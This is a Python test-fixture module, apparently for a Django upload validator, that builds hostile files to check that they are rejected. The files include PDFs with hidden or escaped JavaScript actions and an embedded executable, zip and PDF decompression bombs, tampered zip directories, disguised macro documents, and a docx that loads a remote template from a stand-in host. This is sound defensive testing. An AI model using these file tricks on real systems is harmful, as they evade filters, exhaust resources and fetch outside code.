"""Files to upload, good and hostile, built here byte by byte; nothing is kept in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from django.core.files.uploadedfile import SimpleUploadedFile

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def upload(data: bytes, name: str = "tài liệu.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


# --- PDF -----------------------------------------------------------------------------------------


def pdf(
    text: str = "Tài liệu",
    *,
    objects: Mapping[int, bytes] | None = None,
    catalog: bytes = b"",
    trailer: bytes = b"",
    filler: int = 0,
) -> bytes:
    """A whole one-page PDF. `objects` are added (from number 10), `filler` is a stream of that many bytes."""
    lines = text.encode("cp1258", "replace").replace(b"(", b"[").replace(b")", b"]").split(b"\n")
    content = (
        b"BT /F1 12 Tf 50 780 Td 16 TL " + b" ".join(b"(" + line + b") Tj T*" for line in lines) + b" ET"
    )
    parts: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    } | dict(objects or {})
    if filler:
        noise = (bytes(range(256)) * (filler // 256 + 1))[:filler]
        parts[90] = b"<< /Length %d >>\nstream\n%s\nendstream" % (filler, noise)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places: dict[int, int] = {}
    for number, body in parts.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 1\n0000000000 65535 f \n")
    for number, place in places.items():
        out.write(b"%d 1\n%010d 00000 n \n" % (number, place))
    size = max(parts) + 1
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start))
    return out.getvalue()


def unicode_pdf(text: str) -> bytes:
    """A PDF whose text layer reads Vietnamese, by the project's own font."""
    from django.conf import settings
    from fpdf import FPDF

    page = FPDF()
    page.add_page()
    page.add_font("Be", "", str(settings.FONT_DIR / "400Regular" / "BeVietnamPro_400Regular.ttf"))
    page.set_font("Be", size=12)
    for line in text.split("\n"):
        page.cell(0, 8, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(page.output())


def pdf_with_script() -> bytes:
    return pdf(catalog=b"/OpenAction 10 0 R", objects={10: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})


def pdf_with_escaped_script() -> bytes:
    return pdf(catalog=b"/OpenAction 10 0 R", objects={10: b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>"})


def pdf_with_script_in_object_stream(*, filters: bytes = b"/FlateDecode") -> bytes:
    """The action is packed into an object stream: its bytes are nowhere to be seen."""
    inner = b"10 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(inner)
    body = b"<< /Type /ObjStm /N 1 /First 5 /Filter %s /Length %d >>\nstream\n%s\nendstream" % (
        filters,
        len(packed),
        packed,
    )
    return pdf(catalog=b"/OpenAction 10 0 R", objects={11: body})


def pdf_with_object_stream() -> bytes:
    """A harmless object stream, as every modern writer makes them."""
    packed = zlib.compress(b"10 0 << /Kind /Harmless >>")
    body = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    return pdf(objects={11: body})


def pdf_with_packed_bomb(megabytes: int = 200) -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_048_576) for _ in range(megabytes)) + packer.flush()
    body = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    return pdf(objects={11: body})


def pdf_with_attachment() -> bytes:
    return pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>",
        objects={
            10: b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>",
            11: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        },
    )


def encrypted_pdf() -> bytes:
    return pdf(
        objects={
            10: b"<< /Filter /Standard /V 1 /R 2 /P -44 /O <%s> /U <%s> >>" % (b"41" * 32, b"42" * 32),
        },
        trailer=b"/Encrypt 10 0 R /ID [<00> <00>]",
    )


# --- Office --------------------------------------------------------------------------------------


def package(parts: Mapping[str, bytes | str], *, compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def content_types(main: str, kind: str, extra: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_TYPES}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{kind}"/>{extra}</Types>'
    )


def relationships(*items: tuple[str, str, str]) -> str:
    """(type, target, mode) each."""
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{kind}" Target="{target}" TargetMode="{mode or "Internal"}"/>'
        for n, (kind, target, mode) in enumerate(items)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_RELS}">{rows}</Relationships>'


def docx_parts(
    text: str = "Báo cáo", *, kind: str = f"{DOCX}.main+xml", extra: str = ""
) -> dict[str, bytes | str]:
    paragraphs = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.split("\n"))
    return {
        "[Content_Types].xml": content_types("word/document.xml", kind, extra),
        "_rels/.rels": relationships((f"{_OFFICE}/officeDocument", "word/document.xml", "")),
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{_W}">'
        f"<w:body>{paragraphs}</w:body></w:document>",
    }


def docx(text: str = "Báo cáo") -> bytes:
    return package(docx_parts(text))


def docm() -> bytes:
    """A document with macros, under any name."""
    parts = docx_parts(
        kind="application/vnd.ms-word.document.macroEnabled.main+xml",
        extra='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    return package(parts | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def docx_with_hidden_macros() -> bytes:
    """The main part says that there are none."""
    extra = '<Default Extension="bin" ContentType="application/octet-stream"/>'
    return package(docx_parts(extra=extra) | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def docx_with_template_from_afar() -> bytes:
    rels = relationships((f"{_OFFICE}/attachedTemplate", "http://evil.example/t.dotm", "External"))
    return package(docx_parts() | {"word/_rels/settings.xml.rels": rels})


def docx_with_link() -> bytes:
    rels = relationships((f"{_OFFICE}/hyperlink", "https://example.org/", "External"))
    return package(docx_parts() | {"word/_rels/document.xml.rels": rels})


def docx_with_embedded(name: str, data: bytes, kind: str) -> bytes:
    extra = f'<Override PartName="/word/embeddings/{name}" ContentType="{kind}"/>'
    return package(docx_parts(extra=extra) | {f"word/embeddings/{name}": data})


def docx_bomb(megabytes: int = 300) -> bytes:
    """Some kilobytes that unpack to hundreds of megabytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in docx_parts().items():
            archive.writestr(name, data)
        with archive.open("word/media/white.bmp", "w") as part:
            for _ in range(megabytes):
                part.write(bytes(1_048_576))
    return out.getvalue()


def docx_that_lies_about_sizes(megabytes: int = 64) -> bytes:
    """The directory says a hundred bytes; far more comes out."""
    data = bytearray(docx_bomb(megabytes))
    wanted = b"word/media/white.bmp"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.find(wanted)
        while place >= 0:
            name_at = 30 if signature == b"PK\x03\x04" else 46
            if data[place - name_at : place - name_at + 4] == signature:
                struct.pack_into("<L", data, place - name_at + size_at, 100)
            place = data.find(wanted, place + 1)
    return bytes(data)


def docx_with_overlap() -> bytes:
    """Two entries of the directory share the same bytes."""
    data = bytearray(package(docx_parts() | {"word/a.xml": b"<a/>" * 200, "word/b.xml": b"<a/>" * 200}))
    first = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02"))
    places: dict[bytes, int] = {}
    while first >= 0:
        length = struct.unpack_from("<H", data, first + 28)[0]
        places[bytes(data[first + 46 : first + 46 + length])] = first
        first = data.find(b"PK\x01\x02", first + 4)
    offset = struct.unpack_from("<L", data, places[b"word/a.xml"] + 42)[0]
    struct.pack_into("<L", data, places[b"word/b.xml"] + 42, offset)
    return bytes(data)


def docx_with_many_entries(count: int = 6_000) -> bytes:
    return package(docx_parts() | {f"word/e{n}.xml": b"" for n in range(count)}, compress=zipfile.ZIP_STORED)


def xlsx(rows: int = 3) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for number in range(rows):
        book.active.append([f"Chỉ tiêu {number}", number])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_of(name: str = "a.txt", data: bytes = b"text") -> bytes:
    return package({name: data})


# --- images --------------------------------------------------------------------------------------


def png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = (b"\0" + b"\xff" * (width * 3)) * height if width * height < 10_000 else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def jpg(width: int = 8, height: int = 8) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(out, "JPEG")
    return out.getvalue()


def exe() -> bytes:
    return b"MZ\x90\x00" + bytes(400)
